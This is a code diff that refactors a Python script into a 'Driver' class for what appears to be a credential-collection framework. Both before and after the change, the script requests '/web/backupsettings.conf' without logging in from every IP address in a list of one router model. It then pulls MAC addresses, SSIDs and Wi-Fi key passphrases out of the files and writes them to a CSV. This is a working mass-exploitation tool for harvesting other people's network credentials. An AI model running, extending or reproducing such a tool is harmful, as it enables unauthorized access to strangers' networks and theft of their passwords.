@@ -1,13 +1,15 @@
-import requests
 import os
+import sys
 import csv
 import xml.etree.ElementTree as ET
-import concurrent.futures
 import re
 import fileinput
 import logging
 import configparser
 
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), '..'))
+from hakotx.collect import Driver, run_drivers, script_args
+
 logging.basicConfig(level=logging.INFO, format='%(asctime)s - %(levelname)s - %(message)s')
 
 # Load config properties
@@ -32,20 +34,27 @@ def remove_null_characters(dir):
             except Exception as e:
                 logging.error(f"Error removing null characters from {filename}: {e}")
 
-def download_backup_settings(ip):
-    """Downloads the backup settings from a given IP address."""
-    url = f"http://{ip}/web/backupsettings.conf"
-    file_path = f"{directory_path}/{ip}.xml"
-    try:
-        response = requests.get(url, timeout=4)
+class BackupSettingsDriver(Driver):
+    """The backup is served without a login."""
+
+    name = "PN_BH2_03-02"
+    types = ("PN_BH2_03-02",)
+    folder = directory_path
+    concurrency = min(32, (os.cpu_count() or 1) + 4)
+    timeout = 4
+
+    async def fetch(self, session, ip, token):
+        response = await session.get(f"http://{ip}/web/backupsettings.conf")
         response.raise_for_status()
-        with open(file_path, "wb") as file:
-            file.write(response.content)
-        logging.info(f"Downloaded backupsettings.conf from {ip} and saved as {file_path}")
-        return file_path
-    except requests.exceptions.RequestException as e:
-        logging.error(f"Failed to download backupsettings.conf from {ip}: {e}")
-        return None
+        return response.body
+
+    def extract(self, collected):
+        remove_null_characters(self.folder)
+
+        pairs = []
+        for ip in collected:
+            pairs.extend(parse_xml_file(os.path.join(self.folder, f"{ip}.xml"), ip))
+        write_pairs_to_csv(pairs, output_file)
 
 def normalize_mac(mac):
     """Normalize MAC address to uppercase with colons."""
@@ -80,15 +89,6 @@ def parse_xml_file(file_path, ip):
 
     return ssid_key_pairs
 
-def read_ips_from_file(file_path):
-    """Reads IP addresses from a file."""
-    try:
-        with open(file_path, "r") as file:
-            return file.read().splitlines()
-    except Exception as e:
-        logging.error(f"Error reading IPs from file {file_path}: {e}")
-        return []
-
 def write_pairs_to_csv(pairs, file_path):
     """Writes a list of (IP, MAC, SSID, KeyPassphrase) tuples to a CSV file."""
     try:
@@ -100,21 +100,10 @@ def write_pairs_to_csv(pairs, file_path):
     except Exception as e:
         logging.error(f"Error writing to CSV file {file_path}: {e}")
 
-def main():
-    ips = read_ips_from_file("./ips/PN_BH2_03-02.txt")
-    os.makedirs(directory_path, exist_ok=True)
-
-    with concurrent.futures.ThreadPoolExecutor() as executor:
-        downloaded_files = list(executor.map(download_backup_settings, ips))
-
-    remove_null_characters(directory_path)
-
-    pairs = []
-    for ip, file_path in zip(ips, downloaded_files):
-        if file_path is not None:
-            pairs.extend(parse_xml_file(file_path, ip))
+DRIVER = BackupSettingsDriver()
 
-    write_pairs_to_csv(pairs, output_file)
+def main(full=False):
+    run_drivers([DRIVER], full=full)
 
 if __name__ == "__main__":
-    main()
\ No newline at end of file
+    main(script_args(DRIVER).full)